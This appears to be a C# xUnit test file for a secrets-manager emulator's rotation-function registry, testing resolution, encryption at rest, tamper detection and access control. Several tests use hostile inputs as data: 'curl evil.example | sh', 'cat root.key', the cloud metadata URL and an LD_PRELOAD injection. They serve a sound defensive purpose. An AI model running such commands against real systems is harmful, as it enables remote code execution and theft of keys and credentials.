using Microsoft.Extensions.Time.Testing;
using Strongroom.Core;
using Strongroom.Core.Errors;
using Strongroom.Core.Kms;
using Strongroom.Core.Rotation;
using Strongroom.Crypto;
using Strongroom.Storage.Sqlite;
using Xunit;

namespace Strongroom.Tests;

/// <summary>The rotation-function registry over a real SQLite store: resolution, HMAC keys, encryption at rest, root-key rotation.</summary>
public sealed class RotationFunctionRegistryTests : IAsyncLifetime
{
    private const string Account = "111122223333";
    private const string Region = "us-east-1";
    private readonly string _dir = Directory.CreateTempSubdirectory("sr-functions-").FullName;
    private readonly FakeTimeProvider _time = new(new DateTimeOffset(2026, 11, 1, 10, 0, 0, TimeSpan.Zero));
    private SqliteStore _store = null!;
    private RootKeyHolder _root = null!;
    private RotationFunctionRegistry _registry = null!;

    public async Task InitializeAsync()
    {
        _store = new SqliteStore(Path.Combine(_dir, "strongroom.db"));
        await _store.InitializeAsync(CancellationToken.None);
        _root = new RootKeyHolder(RootKey.Generate(), null);
        _registry = new RotationFunctionRegistry(_store, new RootWrap(_root), new ServerIdentity(Account, Region), _time, new Core.Identity.IamService(_store, new RootWrap(_root), new ServerIdentity(Account, Region), _time));
    }

    public async Task DisposeAsync()
    {
        await _store.DisposeAsync();
        _root.Dispose();
        Directory.Delete(_dir, true);
    }

    [Theory]
    [InlineData("us-east-1")]
    [InlineData("eu-west-3")]
    public async Task ResolveAsync_BuiltinNameOrArn_InEveryRegionWithoutRegistration(string region)
    {
        foreach (var (name, kind) in RotationFunction.BuiltinNames)
        {
            var byName = await _registry.ResolveAsync(region, name, CancellationToken.None);
            var byArn = await _registry.ResolveAsync(region, $"arn:aws:lambda:{region}:{Account}:function:{name}", CancellationToken.None);
            foreach (var function in new[] { byName, byArn })
            {
                Assert.NotNull(function);
                Assert.Equal(RotationFunctionKind.Builtin, function.Kind);
                Assert.Equal(kind, function.Builtin);
                Assert.Equal(RotationFunction.DefaultTimeoutSeconds, function.TimeoutSeconds);
                Assert.Equal($"arn:aws:lambda:{region}:{Account}:function:{name}", function.Arn);
            }
        }
    }

    [Fact]
    public async Task ResolveAsync_Registered_ByNameAndOwnArnOnly()
    {
        await _registry.CreateAsync(Region, new RotationFunctionInput("mine", Command: "/bin/true"), RotationFunctionAuthor.Administrator, CancellationToken.None);
        Assert.Equal("/bin/true", (await _registry.ResolveAsync(Region, "mine", CancellationToken.None))?.Command);
        Assert.NotNull(await _registry.ResolveAsync(Region, $"arn:aws:lambda:{Region}:{Account}:function:mine", CancellationToken.None));
        Assert.Null(await _registry.ResolveAsync(Region, "arn:aws:lambda:us-east-1:999988887777:function:mine", CancellationToken.None));
        Assert.Null(await _registry.ResolveAsync("eu-west-1", "mine", CancellationToken.None));
        Assert.Null(await _registry.ResolveAsync(Region, $"arn:aws:lambda:eu-west-1:{Account}:function:mine", CancellationToken.None));
        Assert.Null(await _registry.ResolveAsync(Region, "arn:aws:lambda:us-east-1:111122223333:function:mine:alias", CancellationToken.None));
        Assert.Null(await _registry.ResolveAsync(Region, "other", CancellationToken.None));
    }

    [Fact]
    public async Task GetHmacKeyAsync_HttpFunction_TheKeyReturnedAtCreate()
    {
        var created = await _registry.CreateAsync(Region, new RotationFunctionInput("hook", Url: "https://rotator.example/"), RotationFunctionAuthor.Administrator, CancellationToken.None);
        var shown = Convert.ToBase64String(created.HmacKey!);
        var resolved = (await _registry.ResolveAsync(Region, "hook", CancellationToken.None))!;
        Assert.Equal(shown, Convert.ToBase64String((await _registry.GetHmacKeyAsync(resolved, CancellationToken.None))!));

        var command = await _registry.CreateAsync(Region, new RotationFunctionInput("cmd", Command: "x"), RotationFunctionAuthor.Administrator, CancellationToken.None);
        Assert.Null(command.HmacKey);
        Assert.Null(await _registry.GetHmacKeyAsync(command.Function, CancellationToken.None));
    }

    [Fact]
    public async Task CreateAsync_BuiltinName_InvalidParameter()
    {
        var e = await Assert.ThrowsAsync<DomainException>(() => _registry.CreateAsync(Region, new RotationFunctionInput("strongroom-mysql-single-user", Command: "x"), RotationFunctionAuthor.Administrator, CancellationToken.None));
        Assert.Equal(ErrorKind.InvalidParameter, e.Kind);
    }

    [Fact]
    public async Task Store_EnvironmentAndHmacKey_NeverInPlaintext()
    {
        const string canary = "PLAINTEXT-CANARY-0f3a";
        var created = await _registry.CreateAsync(Region, new RotationFunctionInput("hook", Url: "https://rotator.example/", Environment: new Dictionary<string, string> { ["PASSWORD"] = canary }), RotationFunctionAuthor.Administrator, CancellationToken.None);
        var key = Convert.ToBase64String(created.HmacKey!);
        var entity = (await _store.FindIamEntityAsync(RotationFunctionRegistry.EntityKind, Region + "/hook", CancellationToken.None))?.Json;
        Assert.NotNull(entity);
        Assert.DoesNotContain(canary, entity, StringComparison.Ordinal);
        Assert.DoesNotContain("PASSWORD", entity, StringComparison.Ordinal);
        Assert.DoesNotContain(key, entity, StringComparison.Ordinal);
        var wrapped = await _store.WriteAsync(tx => tx.GetRootWrappedAsync("rotation-function:" + Region + "/hook", CancellationToken.None), CancellationToken.None);
        Assert.NotNull(wrapped);
        Assert.True(wrapped.AsSpan().IndexOf(System.Text.Encoding.UTF8.GetBytes(canary)) < 0);
    }

    [Fact]
    public async Task Store_CommandChangedWithoutTheRootKey_IsRefusedAndReported()
    {
        var reported = new List<(string Table, string Key)>();
        var root = new RootWrap(_root);
        root.IntegrityFailure += (table, key) => reported.Add((table, key));
        var registry = new RotationFunctionRegistry(_store, root, new ServerIdentity(Account, Region), _time, new Core.Identity.IamService(_store, root, new ServerIdentity(Account, Region), _time));
        await registry.CreateAsync(Region, new RotationFunctionInput("safe", Command: "/usr/local/bin/rotate"), RotationFunctionAuthor.Administrator, CancellationToken.None);
        var row = (await _store.FindIamEntityAsync(RotationFunctionRegistry.EntityKind, Region + "/safe", CancellationToken.None))!;

        // Someone with write access to the database points the function at another command, keeping the old tag.
        var edited = row with { Json = row.Json.Replace("/usr/local/bin/rotate", "curl evil.example | sh", StringComparison.Ordinal) };
        await _store.WriteAsync(async tx => { await tx.PutIamEntityAsync(edited, CancellationToken.None); return true; }, CancellationToken.None);
        await Assert.ThrowsAsync<Core.Storage.RecordIntegrityException>(() => registry.ResolveAsync(Region, "safe", CancellationToken.None));
        await Assert.ThrowsAsync<Core.Storage.RecordIntegrityException>(() => registry.GetAsync(Region, "safe", CancellationToken.None));
        Assert.Contains(("iam_entities", Strongroom.Core.Identity.IamEntityKinds.ToStored(RotationFunctionRegistry.EntityKind) + "/" + Region + "/safe"), reported);

        // Without any tag (a row inserted directly) it is refused too.
        await _store.WriteAsync(async tx => { await tx.PutIamEntityAsync(row with { Mac = null }, CancellationToken.None); return true; }, CancellationToken.None);
        await Assert.ThrowsAsync<Core.Storage.RecordIntegrityException>(() => registry.ResolveAsync(Region, "safe", CancellationToken.None));

        // The row as it was written verifies again.
        await _store.WriteAsync(async tx => { await tx.PutIamEntityAsync(row, CancellationToken.None); return true; }, CancellationToken.None);
        Assert.Equal("/usr/local/bin/rotate", (await registry.GetAsync(Region, "safe", CancellationToken.None)).Command);
    }

    [Fact]
    public async Task RootKeyRotation_RewrapsEnvironmentAndKey()
    {
        var created = await _registry.CreateAsync(Region, new RotationFunctionInput("hook", Url: "https://rotator.example/", Environment: new Dictionary<string, string> { ["A"] = "b" }), RotationFunctionAuthor.Administrator, CancellationToken.None);
        var key = Convert.ToBase64String(created.HmacKey!);
        using var next = new RootKeyHolder(RootKey.Generate(), null);
        await _store.WriteAsync(tx => RootKeyRotation.RewrapAllAsync(tx, _root.Current, next.Current, CancellationToken.None), CancellationToken.None);
        var after = new RotationFunctionRegistry(_store, new RootWrap(next), new ServerIdentity(Account, Region), _time, new Core.Identity.IamService(_store, new RootWrap(next), new ServerIdentity(Account, Region), _time));
        var function = await after.GetAsync(Region, "hook", CancellationToken.None);
        Assert.Equal("b", function.Environment["A"]);
        Assert.Equal(key, Convert.ToBase64String((await after.GetHmacKeyAsync(function, CancellationToken.None))!));
    }

    [Fact]
    public async Task DeleteAsync_ThenRecreate_StartsClean()
    {
        await _registry.CreateAsync(Region, new RotationFunctionInput("f", Command: "x", Environment: new Dictionary<string, string> { ["OLD"] = "1" }), RotationFunctionAuthor.Administrator, CancellationToken.None);
        await _registry.DeleteAsync(Region, "f", CancellationToken.None);
        Assert.Null(await _registry.ResolveAsync(Region, "f", CancellationToken.None));
        var again = await _registry.CreateAsync(Region, new RotationFunctionInput("f", Command: "y"), RotationFunctionAuthor.Administrator, CancellationToken.None);
        Assert.Empty(again.Function.Environment);
        Assert.Empty((await _registry.GetAsync(Region, "f", CancellationToken.None)).Environment);
    }

    [Fact]
    public async Task UpdateAsync_UsesClockForLastModified()
    {
        var created = await _registry.CreateAsync(Region, new RotationFunctionInput("f", Command: "x"), RotationFunctionAuthor.Administrator, CancellationToken.None);
        _time.Advance(TimeSpan.FromHours(1));
        var updated = await _registry.UpdateAsync(Region, new RotationFunctionInput("f", TimeoutSeconds: 10), RotationFunctionAuthor.Administrator, CancellationToken.None);
        Assert.Equal(created.Function.CreatedDate, updated.Function.CreatedDate);
        Assert.Equal(created.Function.CreatedDate.AddHours(1), updated.Function.LastModified);
        Assert.Equal(10, updated.Function.TimeoutSeconds);
        Assert.Equal("x", updated.Function.Command);
    }

    private static readonly RotationFunctionAuthor Developer = new("arn:aws:iam::111122223333:user/dev", MayDefineCode: false);

    [Theory]
    [InlineData("cat root.key", null)]
    [InlineData(null, "http://169.254.169.254/latest/")]
    public async Task CreateAsync_CodeByNonAdministrator_AccessDeniedAndNothingStored(string? command, string? url)
    {
        var e = await Assert.ThrowsAsync<DomainException>(() => _registry.CreateAsync(Region, new RotationFunctionInput("dev-x", Command: command, Url: url), Developer, CancellationToken.None));
        Assert.Equal(ErrorKind.AccessDenied, e.Kind);
        Assert.Contains(Developer.PrincipalArn, e.Message, StringComparison.Ordinal);
        Assert.Null(await _registry.ResolveAsync(Region, "dev-x", CancellationToken.None));
    }

    [Fact]
    public async Task CreateAsync_BuiltinByNonAdministrator_Allowed()
    {
        var created = await _registry.CreateAsync(Region, new RotationFunctionInput("dev-pg", Builtin: "postgresql-single-user"), Developer, CancellationToken.None);
        Assert.Equal(RotationFunctionKind.Builtin, created.Function.Kind);
    }

    public static TheoryData<RotationFunctionInput> OperatorFunctionChanges => new()
    {
        new RotationFunctionInput("ops", TimeoutSeconds: 5),
        new RotationFunctionInput("ops", Builtin: "mysql-single-user"),
        new RotationFunctionInput("ops", Environment: new Dictionary<string, string> { ["LD_PRELOAD"] = "/tmp/x.so" }),
        new RotationFunctionInput("ops", Description: "mine now"),
    };

    [Theory]
    [MemberData(nameof(OperatorFunctionChanges))]
    public async Task UpdateAsync_OperatorsCommandFunctionByNonAdministrator_AccessDeniedAndUnchanged(RotationFunctionInput change)
    {
        await _registry.CreateAsync(Region, new RotationFunctionInput("ops", Command: "true", Environment: new Dictionary<string, string> { ["MODE"] = "safe" }), RotationFunctionAuthor.Administrator, CancellationToken.None);
        var e = await Assert.ThrowsAsync<DomainException>(() => _registry.UpdateAsync(Region, change, Developer, CancellationToken.None));
        Assert.Equal(ErrorKind.AccessDenied, e.Kind);
        var stored = await _registry.GetAsync(Region, "ops", CancellationToken.None);
        Assert.Equal(("true", RotationFunction.DefaultTimeoutSeconds, "safe", (string?)null), (stored.Command, stored.TimeoutSeconds, stored.Environment["MODE"], stored.Description));

        // Nor may a delegable built-in function be turned into code.
        await _registry.CreateAsync(Region, new RotationFunctionInput("mine", Builtin: "postgresql-single-user"), Developer, CancellationToken.None);
        e = await Assert.ThrowsAsync<DomainException>(() => _registry.UpdateAsync(Region, new RotationFunctionInput("mine", Command: "id"), Developer, CancellationToken.None));
        Assert.Equal(ErrorKind.AccessDenied, e.Kind);
        Assert.Equal(RotationFunctionKind.Builtin, (await _registry.GetAsync(Region, "mine", CancellationToken.None)).Kind);
    }

    [Theory]
    [InlineData("""{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"}]}""", true)]
    [InlineData("""{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"secretsmanager.amazonaws.com"},"Action":"sts:AssumeRole"}]}""", true)]
    [InlineData("""{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::111122223333:root"},"Action":"sts:AssumeRole"}]}""", false)]
    [InlineData("""{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}""", false)]
    public async Task CreateAsync_RoleArn_MustTrustTheRotationService(string trust, bool accepted)
    {
        var iam = new Core.Identity.IamService(_store, new RootWrap(_root), new ServerIdentity(Account, Region), _time);
        var role = await iam.Roles.CreateRoleAsync("fn-role", null, trust, null, null, null, CancellationToken.None);
        var create = () => _registry.CreateAsync(Region, new RotationFunctionInput("with-role", Builtin: "postgresql-single-user", RoleArn: role.Arn), RotationFunctionAuthor.Administrator, CancellationToken.None);
        if (accepted)
        {
            Assert.Equal(role.Arn, (await create()).Function.RoleArn);
        }
        else
        {
            var e = await Assert.ThrowsAsync<DomainException>(create);
            Assert.Equal(ErrorKind.InvalidParameter, e.Kind);
            Assert.Contains("cannot be assumed", e.Message, StringComparison.Ordinal);
        }

        var missing = await Assert.ThrowsAsync<DomainException>(() => _registry.CreateAsync(Region, new RotationFunctionInput("no-role", Builtin: "postgresql-single-user", RoleArn: $"arn:aws:iam::{Account}:role/missing"), RotationFunctionAuthor.Administrator, CancellationToken.None));
        Assert.Contains("cannot be assumed", missing.Message, StringComparison.Ordinal);
    }
}
